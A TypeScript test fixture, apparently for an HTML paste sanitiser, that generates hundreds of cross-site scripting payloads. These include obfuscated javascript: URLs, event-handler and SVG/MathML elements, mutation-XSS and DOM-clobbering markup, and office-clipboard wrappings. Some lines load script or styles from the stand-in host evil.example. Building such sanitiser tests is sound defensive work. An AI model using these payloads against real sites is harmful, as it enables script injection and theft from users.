/** Counts how often a script got through. */
const RUN = 'globalThis.hostileRuns=(globalThis.hostileRuns||0)+1';

const control = (code: number) => String.fromCharCode(code);

/** Addresses that run a script in some browser. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` \n javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java&#9;script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script&colon;${RUN}`,
  `&#106;&#97;vascript:${RUN}`,
  `&#x6A;&#x61;&#x76;ascript:${RUN}`,
  `${control(1)}javascript:${RUN}`,
  `${control(0x1f)}javascript:${RUN}`,
  `javascript${control(0)}:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `feed:javascript:${RUN}`,
  `//evil.example/x`,
  `https:javascript:${RUN}`,
];

/** Places for an address. */
const PLACES: readonly ((address: string) => string)[] = [
  (to) => `<a href="${to}">a</a>`,
  (to) => `<a xlink:href="${to}" href="${to}" target="_blank">a</a>`,
  (to) => `<img src="${to}" alt="a">`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<svg><a xlink:href="${to}"><text y="20">a</text></a></svg>`,
  (to) => `<math><mi href="${to}">a</mi></math>`,
  (to) => `<form action="${to}"><button formaction="${to}">a</button></form>`,
  (to) => `<object data="${to}"></object><embed src="${to}">`,
  (to) => `<v:shape href="${to}"><v:imagedata src="${to}"/></v:shape>`,
];

/** Elements that run something on their own. */
const RUNNING = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC="//evil.example/x.js"></SCRIPT>`,
  `<script x>${RUN}</script x>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}" onload="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x:x onerror&#x3d;${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}><a>a</a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}><p onclick=${RUN} onpointerover=${RUN}>a</p>`,
  `<video src=x onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>`,
  `<video><source onerror=${RUN}></video>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}><summary>a</summary></details>`,
  `<marquee onstart=${RUN}>a</marquee>`,
  `<div style="animation: x 1s" onanimationstart=${RUN}>a</div><style>@keyframes x{}</style>`,
  `<p style="background:url(javascript:${RUN});width:expression(${RUN})">a</p>`,
  `<link rel=stylesheet href="data:text/css,*{}"><style>@import '//evil.example'</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}"><base href="//evil.example/">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<portal src="//evil.example"></portal><dialog open onclose=${RUN}>a</dialog>`,
  `<button popovertarget=x onbeforetoggle=${RUN}>a</button><div id=x popover onbeforetoggle=${RUN}>`,
];

/** Markup that is harmless until it is serialised and parsed again. */
const MUTATING = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><p><style><!--</style><img src=1 onerror=${RUN}>--></style>`,
  `<math><annotation-xml encoding="text/html"><style><img src=1 onerror=${RUN}></style></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--a--!><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  `<?xml version="1.0"?><?php <img src=x onerror=${RUN}> ?>`,
  `<p title="<img src=x onerror=${RUN}>">a</p>`,
  `<a title='"><img src=x onerror=${RUN}>'>a</a>`,
  `<b title="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;">a</b>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<p>&lt;img src=x onerror=${RUN}&gt;</p>`,
  `<p>&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;</p>`,
  `<table><tr><td><table><tr><td><form><math><mtext><img src=x onerror=${RUN}></table></table>`,
  `<span data-type="inline-math" data-latex="\\href{javascript:${RUN}}{a}"></span>`,
  `<div data-type="block-math" data-latex="\\htmlData{onclick=${RUN}}{a}"></div>`,
  `<span data-type="inline-math" data-latex="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;"></span>`,
  `<a href="https://malaka.uz" id="__proto__" name="cookie"><img name="getElementById"></a>`,
];

/** As office programs put it into the clipboard. */
const WRAPPED: readonly ((inside: string) => string)[] = [
  (inside) => inside,
  (inside) =>
    `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word"><head><meta name=Generator content="Microsoft Word 15"></head><body><!--StartFragment--><p class=MsoNormal>a<o:p>${inside}</o:p></p>${inside}<!--EndFragment--></body></html>`,
  (inside) =>
    `<meta name=Generator content="Microsoft Word 15"><p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>${inside}</span><![endif]>a</p><!--[if gte mso 9]>${inside}<![endif]--><![if !vml]>${inside}<![endif]>`,
  (inside) =>
    `<b style="font-weight:normal" id="docs-internal-guid-1"><table><tr><td><table><tr><td>${inside}</td></tr></table></td></tr></table></b>`,
  (inside) =>
    `<meta name="generator" content="LibreOffice 24.2"><p><!--[if gte msEquation 12]><m:oMath><m:r><m:t>${inside}</m:t></m:r></m:oMath><![endif]-->${inside}</p>`,
];

/** Hundreds of pastes, each of which would run a script if not sanitised. */
export const HOSTILE_MARKUP: readonly string[] = [
  ...ADDRESSES.flatMap((address) => PLACES.map((place) => place(address))),
  ...RUNNING,
  ...MUTATING,
].flatMap((inside, n) => {
  // Each as is, and in one of the wrappings.
  const wrap = WRAPPED[1 + (n % (WRAPPED.length - 1))]!;
  return [inside, wrap(inside)];
});
